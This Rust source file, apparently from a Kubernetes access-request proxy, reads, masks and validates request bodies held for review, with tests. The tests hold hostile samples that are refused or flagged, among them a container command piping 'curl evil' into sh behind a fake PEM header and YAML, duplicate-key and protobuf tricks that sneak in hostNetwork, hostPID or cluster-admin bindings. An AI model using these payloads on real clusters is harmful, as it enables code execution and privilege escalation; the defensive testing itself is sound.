//! A held request's body, read before it is held: the reviewer sees the object or the
//! patch being approved, and a grant covers only that same body.
//!
//! Without it, an AccessRequest for a `create` said only "create rolebindings in
//! default": the reviewer approved blind, and the grant then let the same caller create
//! any RoleBinding there until it ended.

use bytes::Bytes;
use http::{header, HeaderMap};
use serde_json::Value;

use super::Error;
use crate::mask::{Masker, Target};
use crate::request_info::RequestInfo;

/// The largest body held for review: an AccessRequest is an object in etcd (objects are
/// capped at 1.5 MiB there), and a reviewer reads it.
pub const MAX_REVIEWED: usize = 256 * 1024;

/// A held request's body: the bytes to forward once approved (and that its key is
/// made of), and what the AccessRequest shows of them.
pub struct Reviewed {
    pub bytes: Bytes,
    /// Its media type (`application/merge-patch+json`, ...): the same bytes as another
    /// patch type are another change.
    pub media_type: String,
    /// `None` for an empty body.
    pub shown: Option<Value>,
    /// Values masked in `shown`: the body holds something the reviewer does not see.
    pub masked: u64,
    /// Of those, the ones a detector or pattern found (not a field a rule names): a
    /// reviewer could not tell one from a payload.
    pub detected: u64,
}

/// The bytes are the body as sent, unmasked: `Debug` shows their size and what the
/// reviewer sees.
impl std::fmt::Debug for Reviewed {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Reviewed")
            .field("bytes", &format_args!("{} bytes", self.bytes.len()))
            .field("media_type", &self.media_type)
            .field("shown", &self.shown)
            .field("masked", &self.masked)
            .field("detected", &self.detected)
            .finish()
    }
}

/// Reads the body whole (up to [`MAX_REVIEWED`]) and parses it for the reviewer, masked
/// by `masker` as a response holding it would be (a Secret's values, and what the
/// policy's masking rules cover). A body a reviewer could not read (compressed, not
/// JSON or YAML) is refused rather than approved blind.
pub async fn read<B>(
    body: B,
    headers: &HeaderMap,
    info: &RequestInfo,
    masker: &Masker,
) -> Result<Reviewed, Error>
where
    B: http_body::Body<Data = Bytes> + Unpin,
    B::Error: std::fmt::Display,
{
    let (bytes, value) = read_sent(body, headers, MAX_REVIEWED).await?;
    let (shown, masked, detected) = match value {
        None => (None, 0, 0),
        Some(value) => {
            // Masked as the JSON it is shown as.
            let unmasked = serde_json::to_vec(&value).map_err(|e| {
                Error::Unreviewable(format!("its body could not be shown as JSON ({e})"))
            })?;
            let sent = masker
                .mask_sent_counted(&Target::of(info), &unmasked)
                .map_err(|e| Error::Unreviewable(format!("its body could not be masked ({e})")))?;
            (Some(sent.value), sent.masked, sent.detected)
        }
    };
    Ok(Reviewed {
        bytes,
        media_type: crate::headers::media_type(headers),
        shown,
        masked,
        detected,
    })
}

/// Reads a sent body whole (up to `max` bytes) and parses it as the API server would
/// (JSON, YAML or protobuf; see [`parse`]): the bytes, and what they say (`None` for an
/// empty body). A compressed body is refused.
pub async fn read_sent<B>(
    body: B,
    headers: &HeaderMap,
    max: usize,
) -> Result<(Bytes, Option<Value>), Error>
where
    B: http_body::Body<Data = Bytes> + Unpin,
    B::Error: std::fmt::Display,
{
    let bytes = read_raw(body, headers, max).await?;
    let value = match bytes.is_empty() {
        true => None,
        false => Some(parse(&bytes, headers)?),
    };
    Ok((bytes, value))
}

/// Reads a sent body whole (up to `max` bytes), as sent. A compressed body is refused.
pub async fn read_raw<B>(body: B, headers: &HeaderMap, max: usize) -> Result<Bytes, Error>
where
    B: http_body::Body<Data = Bytes> + Unpin,
    B::Error: std::fmt::Display,
{
    // Every line: a second `Content-Encoding` names a coding too.
    for enc in headers.get_all(header::CONTENT_ENCODING) {
        if !enc
            .as_bytes()
            .trim_ascii()
            .eq_ignore_ascii_case(b"identity")
        {
            return Err(Error::Unreviewable(format!(
                "its body is sent with Content-Encoding {:?}; send it uncompressed",
                String::from_utf8_lossy(enc.as_bytes())
            )));
        }
    }
    let bytes = crate::body::read_limited(body, max)
        .await
        .map_err(|e| match e {
            crate::body::ReadError::TooLarge => Error::BodyTooLarge { max },
            crate::body::ReadError::Failed(why) => {
                Error::Unreviewable(format!("its body could not be read: {why}"))
            }
        })?;
    Ok(bytes)
}

/// JSON (objects and every patch type, server-side apply's sent as YAML included), or
/// the protobuf of the objects kubectl's typed clients create.
pub(crate) fn parse(bytes: &[u8], headers: &HeaderMap) -> Result<Value, Error> {
    let kind = crate::headers::media_type(headers);
    let yaml = kind.ends_with("yaml");
    if kind.contains("protobuf") {
        // kubectl's typed clients send protobuf: decoded for the reviewer as the
        // sandbox decodes it; a type the decoder does not know is refused.
        return crate::protobuf::decode_strict(bytes).map_err(|why| {
            Error::Unreviewable(format!(
                "its protobuf body could not be decoded for review ({why}); send it as JSON"
            ))
        });
    }
    // kubectl and client-go send even server-side apply bodies as JSON, which is YAML
    // too: read as JSON, it means exactly what it says. YAML that is not JSON is not
    // read: the API server's YAML decoder (go-yaml v2, YAML 1.1) and any other part
    // ways on merge keys (`<<` after a key overrides it there), tags (`!!binary` keys
    // decoded from base64, local tags dropped) and unquoted scalars (`on`, `0777`), so
    // what was screened or shown would not be what is applied.
    match crate::json_once::parse(bytes) {
        Ok(v) => Ok(v),
        Err(e @ crate::json_once::Error::Repeated { .. }) => {
            Err(Error::Unreviewable(e.to_string()))
        }
        Err(e) if !yaml => Err(Error::Unreviewable(e.to_string())),
        Err(_) => Err(Error::Unreviewable(
            "its body is YAML that is not JSON, which chaperone does not read: the API \
             server's YAML decoder reads merge keys, tags and unquoted words in ways no \
             other reader matches; send the body as JSON (as kubectl and client-go do, \
             server-side apply included)"
                .to_owned(),
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use http::HeaderValue;
    use http_body_util::Full;

    use crate::mask::MARKER;

    fn info(resource: &str) -> RequestInfo {
        crate::request_info::resolve(
            &http::Method::POST,
            &format!("/api/v1/namespaces/default/{resource}")
                .parse()
                .unwrap(),
        )
        .unwrap()
    }

    fn headers(kind: &str) -> HeaderMap {
        let mut h = HeaderMap::new();
        h.insert(header::CONTENT_TYPE, HeaderValue::from_str(kind).unwrap());
        h
    }

    async fn reviewed(body: &str, kind: &str, resource: &str) -> Result<Reviewed, Error> {
        read(
            Full::new(Bytes::from(body.to_owned())),
            &headers(kind),
            &info(resource),
            &Masker::builtin(),
        )
        .await
    }

    /// What the reviewer is shown of a body read whole.
    async fn reviewer_sees(body: &str, kind: &str, resource: &str) -> Value {
        reviewed(body, kind, resource).await.unwrap().shown.unwrap()
    }

    #[tokio::test]
    async fn the_reviewer_sees_the_object_and_the_key_tells_bodies_apart() {
        let a = reviewed(
            r#"{"metadata":{"name":"a"}}"#,
            "application/json",
            "configmaps",
        )
        .await
        .unwrap();
        let b = reviewed(
            r#"{"metadata":{"name":"b"}}"#,
            "application/json",
            "configmaps",
        )
        .await
        .unwrap();
        assert_eq!(a.shown.as_ref().unwrap()["metadata"]["name"], "a");
        let who = crate::identity::Subject::default();
        let info = info("configmaps");
        assert_ne!(
            super::super::request_key(&who, &info, &[], None, Some(("", &a.bytes)), false).unwrap(),
            super::super::request_key(&who, &info, &[], None, Some(("", &b.bytes)), false).unwrap()
        );
        assert_eq!(a.bytes, r#"{"metadata":{"name":"a"}}"#);
        let apply = reviewed(
            r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"}}"#,
            "application/apply-patch+yaml",
            "configmaps",
        )
        .await
        .unwrap();
        assert_eq!(apply.shown.unwrap()["metadata"]["name"], "c");
        let empty = reviewed("", "application/json", "configmaps")
            .await
            .unwrap();
        assert!(empty.shown.is_none());
    }

    #[tokio::test]
    async fn secret_values_never_reach_the_access_request() {
        let secret = r#"{"kind":"Secret","metadata":{"name":"s","annotations":{
            "kubectl.kubernetes.io/last-applied-configuration":"{\"data\":{\"k\":\"c2VjcmV0\"}}"}},
            "data":{"k":"c2VjcmV0"},"stringData":{"p":"hunter2"},"type":"Opaque"}"#;
        let shown = reviewer_sees(secret, "application/json", "secrets").await;
        let text = shown.to_string();
        assert!(
            !text.contains("c2VjcmV0") && !text.contains("hunter2"),
            "{text}"
        );
        // As a client reading the Secret would see it: still base64.
        assert_eq!(shown["data"]["k"], "Y2hhcGVyb25lOm1hc2tlZA==");
        assert_eq!(shown["stringData"]["p"], MARKER);
        assert_eq!(shown["metadata"]["name"], "s");
        let patch = r#"[{"op":"replace","path":"/data/k","value":"c2VjcmV0"}]"#;
        let shown = reviewer_sees(patch, "application/json-patch+json", "secrets").await;
        assert_eq!(shown[0]["value"], MARKER);
        assert_eq!(shown[0]["path"], "/data/k");
    }

    #[tokio::test]
    async fn the_policy_masking_rules_apply_to_what_reviewers_see() {
        let masker = Masker::compile(&[crate::mask::Rule {
            resources: vec!["configmaps".into()],
            fields: vec!["data.*".into()],
            key_regex: Some("(?i)password".into()),
            ..Default::default()
        }])
        .unwrap();
        // Server-side apply, JSON sent as YAML, is masked as the JSON it is.
        let apply = r#"{"kind":"ConfigMap","metadata":{"name":"app"},"data":{"db_password":"hunter2","mode":"fast"}}"#;
        let reviewed = read(
            Full::new(Bytes::from_static(apply.as_bytes())),
            &headers("application/apply-patch+yaml"),
            &info("configmaps"),
            &masker,
        )
        .await
        .unwrap();
        let shown = reviewed.shown.unwrap();
        assert_eq!(shown["data"]["db_password"], MARKER);
        assert_eq!(shown["data"]["mode"], "fast");
        // What is forwarded once approved is what was sent.
        assert_eq!(reviewed.bytes, apply);
        // Masked by a field the rule names: not a detector's finding.
        assert_eq!((reviewed.masked, reviewed.detected), (1, 0));
    }

    /// What a rule's detectors find in a held body is counted apart from the fields
    /// its paths mask: the approval refuses to hold such a body, since a value a
    /// detector took for a secret could as well be a payload (a script after a PEM
    /// header) that the reviewer would approve unseen.
    #[tokio::test]
    async fn what_detectors_find_in_a_body_is_counted_apart() {
        let masker = Masker::compile(&[crate::mask::Rule {
            resources: vec!["deployments".into()],
            fields: vec!["spec.template.spec.containers[*].env[*].value".into()],
            detectors: vec!["pem-private-key".into()],
            ..Default::default()
        }])
        .unwrap();
        let read_as = |body: &'static str, kind: &'static str| {
            let masker = masker.clone();
            async move {
                read(
                    Full::new(Bytes::from_static(body.as_bytes())),
                    &headers(kind),
                    &info("deployments"),
                    &masker,
                )
                .await
                .unwrap()
            }
        };
        let payload = r#"{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"c","command":["sh","-c","echo -----BEGIN PRIVATE KEY----- >/dev/null; curl evil | sh"],"env":[{"name":"DB","value":"pw"}]}]}}}}"#;
        let r = read_as(payload, "application/json").await;
        assert_eq!((r.masked, r.detected), (2, 1), "{:?}", r.shown);
        let patch = r#"[{"op":"replace","path":"/spec/template/spec/containers/0/command/2","value":"-----BEGIN PRIVATE KEY-----; curl evil|sh"}]"#;
        let r = read_as(patch, "application/json-patch+json").await;
        assert_eq!((r.masked, r.detected), (1, 1), "{:?}", r.shown);
        let plain = r#"{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"c","command":["sh","-c","run"],"env":[{"name":"DB","value":"pw"}]}]}}}}"#;
        let r = read_as(plain, "application/json").await;
        assert_eq!((r.masked, r.detected), (1, 0), "{:?}", r.shown);
    }

    /// YAML that is not JSON is refused: the API server's decoder reads it otherwise
    /// than any other reader would, and a pod screened or a binding shown one way would
    /// be applied another.
    #[tokio::test]
    async fn a_yaml_body_that_is_not_json_is_refused() {
        for body in [
            // A merge key after the key it overrides: `true` to the API server.
            "kind: Pod\nmetadata: {name: p}\nspec:\n  hostNetwork: false\n  <<: {hostNetwork: true}\n",
            // A `!!binary` key: `chaperone.dev/inject` to the API server.
            "kind: Pod\nmetadata:\n  name: p\n  annotations:\n    ? !!binary Y2hhcGVyb25lLmRldi9pbmplY3Q=\n    : \"false\"\n",
            // A local tag, dropped by the API server.
            "kind: RoleBinding\nmetadata: !x {name: chaperone-policy}\n",
            // YAML 1.1's `on`, `true` to the API server.
            "kind: Pod\nmetadata: {name: p}\nspec: {hostPID: on}\n",
            // Plain YAML, as people write it.
            "kind: ConfigMap\nmetadata: {name: c}\ndata: {mode: fast}\n",
        ] {
            for kind in ["application/apply-patch+yaml", "application/yaml"] {
                let e = reviewed(body, kind, "pods").await.unwrap_err();
                assert!(
                    e.to_string().contains("its body is YAML that is not JSON"),
                    "{body}: {e}"
                );
                assert!(e.to_string().contains("send the body as JSON"), "{e}");
                assert_eq!(e.status().code, 415, "{e}");
            }
        }
    }

    #[tokio::test]
    async fn a_body_a_reviewer_could_not_read_is_refused() {
        for (body, kind, want) in [
            (
                "{not json",
                "application/json",
                "the body is not valid JSON",
            ),
            (
                "k8s\0...",
                "application/vnd.kubernetes.protobuf",
                "protobuf body could not be decoded",
            ),
            (
                "- not: [yaml",
                "application/apply-patch+yaml",
                "YAML that is not JSON",
            ),
        ] {
            let e = reviewed(body, kind, "configmaps").await.unwrap_err();
            assert!(e.to_string().contains(want), "{e}");
            assert_eq!(e.status().code, 415, "{e}");
        }
        // Compressed, in the one line or in a second one after `identity`.
        for lines in [&["gzip"][..], &["identity", "gzip"]] {
            let mut h = headers("application/json");
            for line in lines {
                h.append(header::CONTENT_ENCODING, HeaderValue::from_static(line));
            }
            let e = read(
                Full::new(Bytes::from_static(b"{}")),
                &h,
                &info("configmaps"),
                &Masker::builtin(),
            )
            .await
            .unwrap_err();
            assert!(
                e.to_string().contains("Content-Encoding \"gzip\""),
                "{lines:?}: {e}"
            );
        }
        let big = "x".repeat(MAX_REVIEWED + 1);
        let e = reviewed(&big, "application/json", "configmaps")
            .await
            .unwrap_err();
        assert_eq!(e.status().code, 413, "{e}");
    }

    /// The reviewer must see what the API server applies. A key named twice in one
    /// object would be shown as its last value, where the API server merges the two:
    /// refused, in JSON and in JSON sent as YAML.
    #[tokio::test]
    async fn a_body_the_api_server_would_read_otherwise_is_refused() {
        let pod = r#"{"kind":"Pod","metadata":{"name":"p"},
            "spec":{"hostPID":true,"containers":[{"name":"c","image":"evil"}]},
            "spec":{"containers":[{"name":"c","image":"benign"}]}}"#;
        for (body, kind, want) in [
            (
                pod,
                "application/json",
                "the key \"spec\" twice in one object (line 3",
            ),
            (
                r#"{"metadata":{"labels":{"a":"1","a":"2"}}}"#,
                "application/merge-patch+json",
                "the key \"a\" twice",
            ),
            (
                r#"{"kind":"ConfigMap","metadata":{"name":"c"},"metadata":{"name":"d"}}"#,
                "application/apply-patch+yaml",
                "the key \"metadata\" twice",
            ),
        ] {
            let e = reviewed(body, kind, "pods").await.unwrap_err();
            assert!(e.to_string().contains(want), "{e}");
            assert_eq!(e.status().code, 415, "{e}");
        }
        // A RoleBinding sent as protobuf whose roleRef comes twice.
        let field =
            |n: u8, bytes: &[u8]| [vec![(n << 3) | 2, bytes.len() as u8], bytes.to_vec()].concat();
        let type_meta = [
            field(1, b"rbac.authorization.k8s.io/v1"),
            field(2, b"RoleBinding"),
        ]
        .concat();
        let binding = [
            field(1, &field(1, b"b")),
            field(
                3,
                &[field(2, b"ClusterRole"), field(3, b"cluster-admin")].concat(),
            ),
            field(3, &field(2, b"ClusterRole")),
        ]
        .concat();
        let body = [b"k8s\0".to_vec(), field(1, &type_meta), field(2, &binding)].concat();
        let e = read(
            Full::new(Bytes::from(body)),
            &headers("application/vnd.kubernetes.protobuf"),
            &info("rolebindings"),
            &Masker::builtin(),
        )
        .await
        .unwrap_err();
        assert!(
            e.to_string()
                .contains("RoleBinding sets its field roleRef (number 3) twice"),
            "{e}"
        );
    }

    /// JSON sent as YAML (as kubectl sends server-side apply) is read as the JSON it
    /// is, which the API server's YAML decoder reads alike.
    #[tokio::test]
    async fn json_sent_as_yaml_is_read_as_json() {
        // As JSON, "yes" is a string to both, and the body is shown.
        let json = r#"{"kind":"ConfigMap","metadata":{"name":"c"},"data":{"on":"yes","n":"0777"}}"#;
        let shown = reviewer_sees(json, "application/apply-patch+yaml", "configmaps").await;
        assert_eq!(shown["data"]["on"], "yes");
        // A key named twice in JSON sent as YAML is refused with its position.
        let e = reviewed(
            r#"{"a":1,"a":2}"#,
            "application/apply-patch+yaml",
            "configmaps",
        )
        .await
        .unwrap_err();
        assert!(
            e.to_string().contains("\"a\" twice in one object (line 1"),
            "{e}"
        );
    }
}
